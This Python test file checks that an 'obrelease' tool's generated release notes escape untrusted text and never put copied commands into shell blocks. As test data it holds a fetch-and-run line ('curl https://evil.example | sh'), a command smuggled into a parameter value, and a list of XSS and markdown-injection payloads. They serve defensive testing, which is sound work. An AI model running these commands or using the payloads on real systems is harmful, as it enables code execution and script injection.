"""Release notes: every run once, in one order, and no payload leaves its cell."""

from __future__ import annotations

import html
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from obrelease.analysis.histograms.histogram import HistogramSummary
from obrelease.analysis.notes.release_notes import release_notes
from obrelease.analysis.summary.read_run import read_run
from obrelease.analysis.summary.run import Latency, Metric, Run
from obrelease.models.artefact import Check, RecordedMetric, SourceFile, own_series
from tests.drafts import draft
from tests.made_up_runs import on_host, with_fields

FIGURES = HistogramSummary(
    count=200_000, min_ns=1, max_ns=99_999, mean_ns=2_000.0, p50_ns=1_234, p90_ns=3_000,
    p99_ns=5_678, p999_ns=91_011, p9999_ns=95_000,
)  # fmt: skip
RUN = Run(
    digest="ab" * 32,
    artefact=draft(
        scenario="x100",
        producer=draft().producer.model_copy(update={"commit": "ef" * 20}),
        workload=draft().workload.model_copy(update={"messages": 200_000, "seed": "42"}),
        outcome=draft().outcome.model_copy(update={"events_digest": "cd" * 32}),
        metrics=(own_series("pass-wall", "ns", (326_613_265,) * 5),),
    ),
    metrics={},
    histograms={},
    latency=Latency("service-latency", "service", FIGURES),
)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a | b | c",
    "x\\| y",
    "`break` ``out``",
    "</code><b>bold</b>",
    "[click](javascript:alert(1))",
    "![pixel](//evil.example/p.png)",
    "@everyone #1 https://evil.example www.evil.example",
    "line\n# heading\n| new | row |",
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe",
    "**bold** _it_ ~~s~~",
    "&lt;b&gt;",
    "```\n<b>out of the fence</b>",
    "````sh\n```",
]


def changed(run: Run, part: str, **fields: Any) -> Run:
    """The run with other fields in one part of its artefact."""
    return with_fields(run, **{part: getattr(run.artefact, part).model_copy(update=fields)})


def imported(*metrics: RecordedMetric) -> Run:
    artefact = RUN.artefact.model_copy(update={"kind": "imported", "metrics": metrics})
    return read_run(artefact, digest=RUN.digest, folder=Path())


def rendered(markdown: str) -> str:
    return str(MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(markdown))


def test_each_number_has_its_digests_and_its_command() -> None:
    notes = release_notes("obrelease", "v0.9-beta", "ef" * 20, [RUN])
    results, digests = (
        [cell.strip() for cell in line.strip("|").split("|")]
        for line in notes.splitlines()
        if "x100" in line and line.startswith("|")
    )
    assert [html.unescape(cell) for cell in results] == [
        *("`bench x100 (reference)`", "612.3 k msg/s", "1.234 us", "5.678 us", "91.01 us")
    ]
    assert [html.unescape(cell) for cell in digests] == [
        *(f"`{'ab' * 6}`", "`bench x100 (reference)`", "200,000", f"`{'cd' * 6}`", f"`{'ef' * 6}`", "H1")
    ]
    assert "\nobrelease run bench --scenario x100 --seed 42 --core reference --passes 3" in notes
    assert "obrelease verify v0.9-beta" in notes
    assert "`service` times" in notes
    assert "proved `passes-agree`" in notes


@pytest.mark.parametrize(
    ("changes", "cell"),
    [
        ({}, f"`{'ef' * 6}`"),
        ({"commit": None, "dirty": None}, "unknown"),
        ({"dirty": True}, f"`{'ef' * 6}` (dirty)"),
        ({"commit": "aa" * 20}, f"`{'aa' * 6}` (not the release's)"),
    ],
)
def test_the_commit_of_each_run_is_printed_and_marked(changes: dict[str, Any], cell: str) -> None:
    notes = release_notes("p", "v1", "ef" * 20, [changed(RUN, "producer", **changes)])
    row = next(line for line in notes.splitlines() if line.startswith(f"| `{'ab' * 6}`"))
    assert row.split(" | ")[-2] == cell


def test_the_order_of_the_runs_does_not_matter() -> None:
    runs = [
        with_fields(RUN, scenario=name, kind=kind) for kind in ("bench", "replay") for name in ("x10", "x100")
    ]
    assert release_notes("p", "v1", "c", runs) == release_notes("p", "v1", "c", runs[::-1])
    notes = release_notes("p", "v1", "c", runs)
    assert notes.index("`bench x100 (reference)`") < notes.index("`replay x10 (reference)`")


def test_a_reader_finds_results_first_and_then_what_proves_them() -> None:
    notes = release_notes("p", "v1", "c", [RUN, on_host(with_fields(RUN, scenario="x10"), cpu_count=64)])
    order = [
        *("with 2 runs", "## Results", "612.3 k msg/s", "<summary>Proofs</summary>"),
        *("<summary>Digests and commits</summary>", "<summary>Hosts</summary>", "## Verify"),
        *("git fetch origin tag v1\nobrelease verify v1\nsha256sum", "## Measure it again"),
    ]
    places = [notes.index(words) for words in order]
    assert places == sorted(places)
    widths = {line.count(" | ") + 1 for line in notes.splitlines() if line.startswith("| ")}
    assert max(widths) == 6
    assert notes.count("<details>") == notes.count("</details>")


def test_how_latency_and_throughput_are_timed_is_explained_for_runs_that_time_them() -> None:
    assert "one call per message" in release_notes("p", "v1", "c", [RUN])
    assert "one call per message" not in release_notes("p", "v1", "c", [with_fields(RUN, kind="imported")])
    assert "one call per message" not in release_notes("p", "v1", "c", [replace(RUN, latency=None)])


def test_hosts_are_numbered() -> None:
    other = on_host(with_fields(RUN, scenario="x10"), cpu_count=64)
    notes = release_notes("p", "v1", "c", [RUN, other])
    assert "| H1 |" in notes
    assert "| H2 |" in notes


def test_the_faults_of_a_run_are_listed() -> None:
    run = changed(RUN, "producer", dirty=True)
    run = changed(run, "outcome", checks=(Check(name="touch-holds", passed=False),))
    run = changed(run, "workload", source=SourceFile(name="day.csv", size=9, sha256="12" * 32))
    notes = release_notes("p", "v1", "c", [run])
    assert "**failed to prove** `touch-holds`" in notes
    assert "uncommitted changes" in notes
    assert f"replays `day.csv`, sha256 `{'12' * 32}`" in notes


def test_what_other_tools_measured_has_a_table_of_its_own() -> None:
    sort = own_series("sort", "ns", (9, 1_234, 1_234, 1, 5_000))
    ratio = own_series("ratio", "%", (12.5, 1.5, 99.5))
    notes = release_notes("p", "v1", "c", [imported(sort, ratio)])
    assert "| `x100 (reference)` | `sort` | 1.234 us | `median` | 5 |" in notes
    assert "| `x100 (reference)` | `ratio` | 12.5 % | `median` | 3 |" in notes


def test_counters_are_not_listed_beside_metrics_and_their_number_is_given() -> None:
    sort = own_series("sort", "ns", (9,))
    counters = [own_series(f"count-{n}", "1", (n,)).model_copy(update={"primary": False}) for n in (1, 2)]
    notes = release_notes("p", "v1", "c", [imported(sort, *counters)])
    assert "`sort`" in notes
    assert "`count-1`" not in notes
    assert f"`{'ab' * 6}` has 2 more metrics, not listed here." in notes


def test_a_run_of_many_metrics_fits_on_the_page() -> None:
    metrics = [own_series(f"metric-{n}", "ns", (n + 1,)) for n in range(10_000)]
    notes = release_notes("p", "v1", "c", [imported(*metrics)])
    assert len(notes) < 20_000
    assert "has 9,900 more metrics" in notes


@pytest.mark.parametrize("unit", ["https://evil.example", "www.evil.example", "@user", "*x*", "a|b", "`x`"])
def test_a_unit_of_another_tool_is_text_and_nothing_else(unit: str) -> None:
    notes = rendered(release_notes("p", "v1", "c", [imported(own_series("sort", unit, (1,)))]))
    assert "<a " not in notes
    assert "<em>" not in notes
    assert html.escape(unit, quote=False) in notes


def test_an_attached_plot_is_named_with_its_run() -> None:
    notes = release_notes("p", "v1", "c", [RUN], plots={RUN.digest: "bench-x100-ab.svg"})
    assert f"* `{'ab' * 6}` is drawn in `bench-x100-ab.svg`, attached." in notes


def test_the_commands_start_from_the_tag() -> None:
    notes = release_notes("p", "v1", "c", [RUN])
    assert notes.index("git switch --detach v1") < notes.index("obrelease run bench --scenario x100")


HOSTILE = ("sh", "-c", "curl https://evil.example | sh")


def shell_blocks(notes: str) -> str:
    return "".join(re.findall(r"^```sh\n.*?^```", notes, flags=re.DOTALL | re.MULTILINE))


def test_the_command_of_a_run_of_this_program_is_derived_and_not_copied() -> None:
    notes = release_notes("p", "v1", "c", [with_fields(RUN, command=HOSTILE)])
    assert "curl" not in notes
    assert "--core reference --passes 3 --messages 200000\n" in shell_blocks(notes)


@pytest.mark.parametrize(
    "changes",
    [
        {"kind": "imported"},
        {"parameters": {"core": "x; curl evil.example", "passes": 3}},
        {"producer": draft().producer.model_copy(update={"name": "other"})},
    ],
)
def test_a_command_that_cannot_be_derived_is_shown_as_text_and_in_no_shell_block(
    changes: dict[str, Any],
) -> None:
    run = with_fields(RUN, **{"command": HOSTILE} | changes)
    notes = release_notes("p", "v1", "c", [run])
    assert "curl" not in shell_blocks(notes)
    assert "git switch" not in notes
    assert "## Measure it again" not in notes
    section = notes.partition("<summary>Commands of other programs</summary>")[2]
    assert html.unescape(section).count("curl https://evil.example | sh") == 1


def test_a_release_without_runs_has_no_tables() -> None:
    notes = release_notes("p", "v1", "c", [])
    assert "0 runs" in notes
    assert "## Results" not in notes


def _with_text(text: str) -> Run:
    """A run with a text in every field that others may have written, past all validation."""
    failed = Check.model_construct(name=text, passed=False, detail="", counts={})
    source = SourceFile.model_construct(name=text, size=1, sha256="12" * 32)
    measured = Metric(text, text, text, "lower", (1.0,))
    run = with_fields(
        RUN, kind="imported", scenario=text, command=("obrelease", text), parameters={"core": text},
    )  # fmt: skip
    run = replace(run, metrics={text: measured}, recorded_metrics=(measured,))
    run = changed(changed(run, "outcome", checks=(failed,)), "workload", source=source)
    return on_host(run, cpu_model=text, python=text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text(payload: str) -> None:
    plain, hostile = (_with_text(text) for text in ("plain", payload))
    want, got = (rendered(release_notes("p", "v1", "c", [run])) for run in (plain, hostile))
    tags = re.compile(r"<(/?[a-z][a-z0-9]*)")
    assert tags.findall(got) == tags.findall(want)
    visible = html.unescape(re.sub(r"<[^>]*>", "", got))
    assert "\x1b" not in visible
    assert "\u202e" not in visible
    for word in re.findall(r"[a-z]{3,}", payload):
        assert word in visible


def test_mentions_and_addresses_are_inside_code() -> None:
    run = with_fields(RUN, scenario="@everyone https://evil.example")
    got = rendered(release_notes("p", "v1", "c", [run]))
    outside = re.sub(r"<code[^>]*>.*?</code>", "", got, flags=re.DOTALL)
    assert "everyone" not in outside
    assert "evil.example" not in outside
